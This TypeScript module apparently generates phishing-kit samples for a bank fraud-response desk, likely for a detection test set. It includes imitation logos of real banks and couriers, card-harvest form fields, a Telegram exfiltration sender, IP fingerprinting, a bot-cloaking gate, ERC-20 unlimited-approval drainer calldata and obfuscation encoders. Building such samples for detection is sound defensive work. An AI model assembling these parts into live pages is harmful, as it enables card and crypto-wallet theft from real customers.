/**
 * Shared pieces for author `xc` (fraud-response desk of a bank group in GR, CY, BG, RS, HR).
 * Page shells, brand marks drawn as inline SVG, obfuscation helpers of the kind the kits use, and a few
 * script snippets. Parts hold no pages: every page body lives in its own dev/ or blind/ file.
 */

export type XcLang = 'el' | 'bg' | 'sr' | 'sr-Latn' | 'hr' | 'en';

export const esc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

/** A full HTML document. */
export function doc(o: { lang: string; title: string; body: string; css?: string; head?: string; bodyAttr?: string; font?: string }): string {
  const font = o.font ?? `-apple-system,"Segoe UI",Roboto,Arial,sans-serif`;
  return `<!DOCTYPE html>
<html lang="${o.lang}">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>${o.title}</title>
${o.head ?? ''}
<style>
*{box-sizing:border-box}
body{margin:0;font-family:${font};color:#1d2430;background:#f4f6f8}
${o.css ?? ''}
</style>
</head>
<body${o.bodyAttr ? ' ' + o.bodyAttr : ''}>
${o.body}
</body>
</html>`;
}

// ------------------------------------------------------------------ encodings used by the kits

export const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
export const hex = (s: string): string => Buffer.from(s, 'utf8').toString('hex');
export const codes = (s: string): string => Array.from(s).map((c) => c.codePointAt(0)).join(',');
/** PowerShell -EncodedCommand form (UTF-16LE, base64). */
export const psEnc = (s: string): string => Buffer.from(s, 'utf16le').toString('base64');
/** Cuts a string into a JS concatenation of quoted pieces. */
export const splitJs = (s: string, n = 4): string => {
  const parts: string[] = [];
  for (let i = 0; i < s.length; i += n) parts.push(JSON.stringify(s.slice(i, i + n)));
  return parts.join('+');
};
/** XOR with a repeating key over the UTF-8 bytes, then base64: the "encrypted blob" of several kits. */
export const xorPack = (s: string, key: string): string => {
  const data = Buffer.from(s, 'utf8');
  const k = Buffer.from(key, 'utf8');
  return Buffer.from(data.map((b, i) => b ^ (k[i % k.length] ?? 0))).toString('base64');
};
/** The browser-side decoder for xorPack, under a chosen function name. */
export const xorUnpackJs = (fn: string): string =>
  `function ${fn}(d,k){var b=atob(d),o=new Uint8Array(b.length);for(var i=0;i<b.length;i++)o[i]=b.charCodeAt(i)^k.charCodeAt(i%k.length);return new TextDecoder().decode(o)}`;
/** Reverses a string (kits ship reversed base64 to dodge naive matching). */
export const rev = (s: string): string => Array.from(s).reverse().join('');

// ------------------------------------------------------------------ brand marks (simplified, inline SVG)

export type BankKey = 'piraeus' | 'alpha' | 'eurobank' | 'nbg' | 'boc' | 'bulbank' | 'dsk' | 'intesa' | 'raiffeisen' | 'zaba' | 'pbz';

export const BANK: Record<BankKey, { name: string; color: string; accent: string }> = {
  piraeus: { name: 'Piraeus', color: '#00365a', accent: '#f2b800' },
  alpha: { name: 'Alpha Bank', color: '#003d7c', accent: '#d7141a' },
  eurobank: { name: 'Eurobank', color: '#c8102e', accent: '#18194f' },
  nbg: { name: 'Εθνική Τράπεζα', color: '#005f6b', accent: '#00a0af' },
  boc: { name: 'Bank of Cyprus', color: '#00587c', accent: '#00a5df' },
  bulbank: { name: 'UniCredit Bulbank', color: '#e2001a', accent: '#262626' },
  dsk: { name: 'Банка ДСК', color: '#00843d', accent: '#7ab800' },
  intesa: { name: 'Banca Intesa', color: '#007a3d', accent: '#f58220' },
  raiffeisen: { name: 'Raiffeisen Bank', color: '#2b2b2b', accent: '#fee600' },
  zaba: { name: 'Zagrebačka banka', color: '#e2001a', accent: '#2b2b2b' },
  pbz: { name: 'PBZ', color: '#006b3f', accent: '#9bc31c' },
};

const MARKS: Record<BankKey, (c: string, a: string) => string> = {
  piraeus: (c, a) => `<rect width="36" height="36" rx="6" fill="${c}"/><path d="M11 27V9h8a5.5 5.5 0 0 1 0 11h-4v7z" fill="${a}"/>`,
  alpha: (c, a) => `<rect width="36" height="36" fill="${c}"/><path d="M18 6 29 30h-5l-2-5h-8l-2 5H7zm-2.6 15h5.2L18 14z" fill="#fff"/><rect x="7" y="31" width="22" height="2" fill="${a}"/>`,
  eurobank: (c, a) => `<circle cx="18" cy="18" r="17" fill="${c}"/><path d="M25 21H12.5a6 6 0 0 0 10.8 2.3l2.5 1.6A9 9 0 1 1 27 18v3zm-12.3-3h9.4a5 5 0 0 0-9.4 0z" fill="#fff"/><circle cx="29" cy="7" r="3" fill="${a}"/>`,
  nbg: (c, a) => `<circle cx="18" cy="18" r="17" fill="${c}"/><circle cx="18" cy="18" r="12" fill="none" stroke="${a}" stroke-width="2"/><path d="M13 24V12l10 12V12" stroke="#fff" stroke-width="2.4" fill="none"/>`,
  boc: (c, a) => `<circle cx="18" cy="18" r="16" fill="none" stroke="${c}" stroke-width="4"/><path d="M10 18a8 8 0 0 1 16 0" stroke="${a}" stroke-width="4" fill="none"/>`,
  bulbank: (c) => `<circle cx="18" cy="18" r="17" fill="${c}"/><path d="M12 26 24 10M19 10h5v5" stroke="#fff" stroke-width="3" fill="none"/><circle cx="18" cy="18" r="11" fill="none" stroke="#fff" stroke-width="2"/>`,
  dsk: (c, a) => `<rect width="36" height="36" rx="4" fill="${c}"/><path d="M6 26h24" stroke="${a}" stroke-width="3"/><text x="18" y="21" font-size="11" font-weight="700" text-anchor="middle" fill="#fff" font-family="Arial">ДСК</text>`,
  intesa: (c, a) => `<path d="M3 26C10 6 26 4 33 10 24 8 14 12 9 28z" fill="${c}"/><path d="M12 30c6-10 14-14 21-14-7 3-12 8-15 15z" fill="${a}"/>`,
  raiffeisen: (c, a) => `<rect width="36" height="36" fill="${a}"/><path d="M8 28 28 8M28 28 8 8M6 10l4-4M30 10l-4-4" stroke="${c}" stroke-width="3.4" stroke-linecap="round"/><path d="M12 30h12v-8l-6-5-6 5z" fill="${c}"/>`,
  zaba: (c) => `<circle cx="18" cy="18" r="17" fill="${c}"/><path d="M10 12h16L10 25h16" stroke="#fff" stroke-width="3" fill="none"/>`,
  pbz: (c, a) => `<rect width="36" height="36" rx="9" fill="${c}"/><path d="M8 26c5-12 14-16 20-16" stroke="${a}" stroke-width="4" fill="none" stroke-linecap="round"/>`,
};

/** A bank's mark plus wordmark; `label` overrides the wordmark (e.g. a product name). */
export function bankLogo(key: BankKey, label?: string, height = 36, dark = false): string {
  const b = BANK[key];
  const text = label ?? b.name;
  const w = 46 + text.length * 10;
  return `<svg xmlns="http://www.w3.org/2000/svg" role="img" aria-label="${esc(text)}" height="${height}" viewBox="0 0 ${w} 36">${MARKS[key](b.color, b.accent)}<text x="44" y="24" font-family="Arial,Helvetica,sans-serif" font-size="17" font-weight="700" fill="${dark ? '#fff' : b.color === '#2b2b2b' ? '#111' : b.color}">${esc(text)}</text></svg>`;
}

export type CourierKey = 'elta' | 'acs' | 'econt' | 'speedy' | 'postars' | 'postahr';

export const COURIER: Record<CourierKey, { name: string; bg: string; fg: string }> = {
  elta: { name: 'ΕΛΤΑ', bg: '#003b7a', fg: '#ffd200' },
  acs: { name: 'ACS', bg: '#e30613', fg: '#ffffff' },
  econt: { name: 'Еконт', bg: '#233a86', fg: '#ffcc00' },
  speedy: { name: 'Speedy', bg: '#e4002b', fg: '#ffffff' },
  postars: { name: 'Пошта Србије', bg: '#0b3d91', fg: '#ffcd00' },
  postahr: { name: 'Hrvatska pošta', bg: '#ffcc00', fg: '#0b2d6b' },
};

/** A courier wordmark with a small post-horn / parcel glyph. */
export function courierLogo(key: CourierKey, height = 34): string {
  const c = COURIER[key];
  const w = 50 + c.name.length * 11;
  const glyph =
    key === 'elta' || key === 'postars' || key === 'postahr'
      ? `<path d="M7 21c0-6 5-10 11-10h5v4h-4a5 5 0 0 0 0 10h4v3h-5C12 28 7 26 7 21z" fill="${c.fg}"/><circle cx="26" cy="20" r="3" fill="${c.fg}"/>`
      : `<path d="M8 13 18 8l10 5v11l-10 5-10-5z" fill="none" stroke="${c.fg}" stroke-width="2.4"/><path d="M8 13l10 5 10-5M18 18v11" stroke="${c.fg}" stroke-width="2"/>`;
  return `<svg xmlns="http://www.w3.org/2000/svg" role="img" aria-label="${esc(c.name)}" height="${height}" viewBox="0 0 ${w} 36"><rect width="${w}" height="36" rx="5" fill="${c.bg}"/>${glyph}<text x="40" y="24" font-family="Arial,Helvetica,sans-serif" font-size="16" font-weight="700" fill="${c.fg}">${esc(c.name)}</text></svg>`;
}

/** The state emblem-ish mark of a government portal (a plain shield with initials). */
export function govMark(initials: string, color: string, height = 40): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" height="${height}" viewBox="0 0 34 40" aria-hidden="true"><path d="M2 3h30v17c0 9-7 15-15 18C9 35 2 29 2 20z" fill="${color}"/><text x="17" y="24" font-family="Arial" font-size="11" font-weight="700" text-anchor="middle" fill="#fff">${esc(initials)}</text></svg>`;
}

// ------------------------------------------------------------------ form pieces

const CARD_LABELS: Record<XcLang, { holder: string; number: string; exp: string; cvv: string; mm: string; yy: string }> = {
  el: { holder: 'Ονοματεπώνυμο κατόχου', number: 'Αριθμός κάρτας', exp: 'Ημερομηνία λήξης', cvv: 'CVV2/CVC2', mm: 'ΜΜ', yy: 'ΕΕ' },
  bg: { holder: 'Име на картодържателя', number: 'Номер на картата', exp: 'Валидна до', cvv: 'CVV/CVC', mm: 'ММ', yy: 'ГГ' },
  sr: { holder: 'Име и презиме власника', number: 'Број картице', exp: 'Важи до', cvv: 'CVV2', mm: 'ММ', yy: 'ГГ' },
  'sr-Latn': { holder: 'Ime i prezime vlasnika', number: 'Broj kartice', exp: 'Važi do', cvv: 'CVV2', mm: 'MM', yy: 'GG' },
  hr: { holder: 'Ime i prezime na kartici', number: 'Broj kartice', exp: 'Datum isteka', cvv: 'CVV', mm: 'MM', yy: 'GG' },
  en: { holder: 'Cardholder name', number: 'Card number', exp: 'Expiry date', cvv: 'Security code', mm: 'MM', yy: 'YY' },
};

/** Card fields with labels in `lang`; `names` lets each kit use its own field names. */
export function cardFields(lang: XcLang, names: { holder?: string; number: string; mm: string; yy: string; cvv: string }, cls = 'fld'): string {
  const l = CARD_LABELS[lang];
  return `${names.holder ? `<div class="${cls}"><label for="${names.holder}">${l.holder}</label><input id="${names.holder}" name="${names.holder}" autocomplete="cc-name" required></div>` : ''}
<div class="${cls}"><label for="${names.number}">${l.number}</label><input id="${names.number}" name="${names.number}" inputmode="numeric" autocomplete="cc-number" maxlength="19" placeholder="0000 0000 0000 0000" required></div>
<div class="${cls} row2"><div><label>${l.exp}</label><span class="exp"><input name="${names.mm}" maxlength="2" placeholder="${l.mm}" inputmode="numeric" required> / <input name="${names.yy}" maxlength="2" placeholder="${l.yy}" inputmode="numeric" required></span></div>
<div><label for="${names.cvv}">${l.cvv}</label><input id="${names.cvv}" name="${names.cvv}" maxlength="4" inputmode="numeric" autocomplete="cc-csc" required></div></div>`;
}

/** Luhn check + spacing, as most card-harvest kits carry, under a chosen function name. */
export const luhnJs = (fn: string): string =>
  `function ${fn}(n){n=(n||'').replace(/\\D/g,'');var s=0,a=false;for(var i=n.length-1;i>=0;i--){var d=+n[i];if(a){d*=2;if(d>9)d-=9}s+=d;a=!a}return n.length>=13&&s%10===0}`;

/** A Telegram Bot API send, with the token and chat given as JS expressions. */
export const tgSendJs = (tokenExpr: string, chatExpr: string, textExpr: string): string =>
  `fetch('https://api.telegram.org/bot'+(${tokenExpr})+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:${chatExpr},text:${textExpr},parse_mode:'HTML'})})`;

/** A visitor fingerprint the kits attach to each "log" (ip lookup + UA). */
export const visitorInfoJs = (fn: string, ipApi: string): string =>
  `async function ${fn}(){var r={ua:navigator.userAgent,lang:navigator.language,tz:Intl.DateTimeFormat().resolvedOptions().timeZone,scr:screen.width+'x'+screen.height};try{var j=await (await fetch('${ipApi}')).json();r.ip=j.ip||j.query;r.cc=j.country||j.countryCode}catch(e){}return r}`;

/** Bot/automation screening as cloaked kits do before they reveal anything. */
export const botGateJs = (fn: string): string =>
  `function ${fn}(){var n=navigator;if(n.webdriver)return false;if(!n.languages||!n.languages.length)return false;if(/bot|crawl|spider|headless|lighthouse|python|curl|scan/i.test(n.userAgent))return false;if(screen.width<300||screen.height<300)return false;if(n.plugins&&n.plugins.length===0&&!/Mobile|Android|iPhone/.test(n.userAgent))return false;return true}`;

// ------------------------------------------------------------------ wallet pieces

/** ABI helpers for hand-rolled EVM calldata (no library), as the drainer kits inline. */
export const evmAbiJs = `function _p(a){return a.toLowerCase().replace(/^0x/,'').padStart(64,'0')}
var MAXU='f'.repeat(64);
function approveData(sp){return '0x095ea7b3'+_p(sp)+MAXU}
function approvalForAllData(op){return '0xa22cb465'+_p(op)+_p('0x1')}
function transferData(to,amt){return '0xa9059cbb'+_p(to)+BigInt(amt).toString(16).padStart(64,'0')}`;

/** The "connect wallet" modal markup many claim pages share in shape (names and wording vary per page). */
export function walletModal(title: string, wallets: string[], id = 'wm'): string {
  return `<div id="${id}" class="wm" hidden><div class="wm-box"><div class="wm-h">${title}<button type="button" class="wm-x" onclick="document.getElementById('${id}').hidden=true">×</button></div>${wallets
    .map((w, i) => `<button type="button" class="wm-w" data-w="${w.toLowerCase().replace(/\s+/g, '')}"><span class="wm-i" style="background:hsl(${(i * 67) % 360},65%,52%)">${w.slice(0, 1)}</span>${w}</button>`)
    .join('')}</div></div>`;
}

export const walletModalCss = `.wm{position:fixed;inset:0;background:rgba(5,8,20,.72);display:flex;align-items:center;justify-content:center;z-index:50}.wm[hidden]{display:none}.wm-box{background:#141a2a;color:#e9ecf5;width:360px;border-radius:16px;padding:18px}.wm-h{display:flex;justify-content:space-between;font-weight:600;margin-bottom:12px}.wm-x{background:none;border:0;color:#aab;font-size:20px;cursor:pointer}.wm-w{display:flex;align-items:center;gap:12px;width:100%;background:#1d2438;color:#fff;border:1px solid #2a3350;border-radius:12px;padding:12px;margin:6px 0;cursor:pointer;font-size:15px}.wm-i{width:28px;height:28px;border-radius:8px;display:inline-flex;align-items:center;justify-content:center;font-weight:700}`;

// ------------------------------------------------------------------ fake news outlets (investment lures) and real-looking site chrome

/** A news-site frame: masthead, nav, article slot, sidebar; used by both the fake-interview lures and real outlets. */
export function newsFrame(o: { lang: string; title: string; outlet: string; color: string; nav: string[]; article: string; sidebar?: string; head?: string; extraCss?: string }): string {
  return doc({
    lang: o.lang,
    title: o.title,
    head: o.head,
    font: 'Georgia,"Times New Roman",serif',
    css: `body{background:#fff}.mast{border-bottom:4px solid ${o.color};padding:14px 24px;display:flex;align-items:center;justify-content:space-between}.mast b{font-size:30px;letter-spacing:-.5px;color:${o.color};font-family:Georgia,serif}.nav{background:#111;padding:0 24px}.nav a{color:#eee;font:13px Arial,sans-serif;text-decoration:none;display:inline-block;padding:10px 12px}.wrap{max-width:1100px;margin:0 auto;display:grid;grid-template-columns:1fr 300px;gap:32px;padding:24px}article h1{font-size:34px;line-height:1.15;margin:6px 0 12px}article p{font-size:18px;line-height:1.6}.meta{font:13px Arial,sans-serif;color:#777}aside{font:14px Arial,sans-serif}aside h4{border-bottom:2px solid ${o.color};padding-bottom:4px}blockquote{border-left:4px solid ${o.color};margin:18px 0;padding:6px 16px;background:#f7f7f7;font-style:italic}figure{margin:16px 0}figcaption{font:12px Arial,sans-serif;color:#666}@media(max-width:800px){.wrap{grid-template-columns:1fr}}${o.extraCss ?? ''}`,
    body: `<header class="mast"><b>${o.outlet}</b><span class="meta" id="today"></span></header>
<nav class="nav">${o.nav.map((n) => `<a href="#">${n}</a>`).join('')}</nav>
<div class="wrap"><article>${o.article}</article><aside>${o.sidebar ?? ''}</aside></div>`,
  });
}

/** A photo placeholder (gradient + initials), since nothing may be fetched from the internet. */
export function photo(initials: string, hue: number, w = 640, h = 360): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 ${w} ${h}" width="100%" role="img"><defs><linearGradient id="g${hue}" x1="0" y1="0" x2="1" y2="1"><stop offset="0" stop-color="hsl(${hue},35%,38%)"/><stop offset="1" stop-color="hsl(${(hue + 40) % 360},40%,18%)"/></linearGradient></defs><rect width="${w}" height="${h}" fill="url(#g${hue})"/><circle cx="${w / 2}" cy="${h * 0.42}" r="${h * 0.18}" fill="rgba(255,255,255,.25)"/><rect x="${w / 2 - h * 0.3}" y="${h * 0.64}" width="${h * 0.6}" height="${h * 0.36}" rx="${h * 0.12}" fill="rgba(255,255,255,.2)"/><text x="${w - 16}" y="${h - 14}" font-family="Arial" font-size="14" fill="rgba(255,255,255,.6)" text-anchor="end">${esc(initials)}</text></svg>`;
}

/** A plain cookie notice as legitimate sites carry (text per language). */
export function cookieNotice(lang: XcLang, policyHref: string): string {
  const t: Record<XcLang, [string, string, string]> = {
    el: ['Χρησιμοποιούμε cookies για τη λειτουργία του ιστότοπου και, με τη συγκατάθεσή σας, για στατιστικά.', 'Αποδοχή', 'Ρυθμίσεις'],
    bg: ['Използваме бисквитки за работата на сайта и, с Вашето съгласие, за анализ.', 'Приемам', 'Настройки'],
    sr: ['Користимо колачиће за рад сајта и, уз вашу сагласност, за аналитику.', 'Прихватам', 'Подешавања'],
    'sr-Latn': ['Koristimo kolačiće za rad sajta i, uz vašu saglasnost, za analitiku.', 'Prihvatam', 'Podešavanja'],
    hr: ['Koristimo kolačiće za rad stranice i, uz vašu privolu, za analitiku.', 'Prihvaćam', 'Postavke'],
    en: ['We use cookies to run this site and, with your consent, for analytics.', 'Accept', 'Settings'],
  };
  const [msg, ok, more] = t[lang];
  return `<div id="cookie-bar" style="position:fixed;left:0;right:0;bottom:0;background:#20252d;color:#eee;padding:12px 20px;font:13px Arial,sans-serif;display:flex;gap:12px;align-items:center;justify-content:center">${msg} <a href="${policyHref}" style="color:#9cf">${more}</a> <button type="button" onclick="document.cookie='consent=1;path=/;max-age=31536000';this.parentNode.remove()" style="background:#3b82f6;color:#fff;border:0;padding:6px 14px;border-radius:4px">${ok}</button></div>`;
}
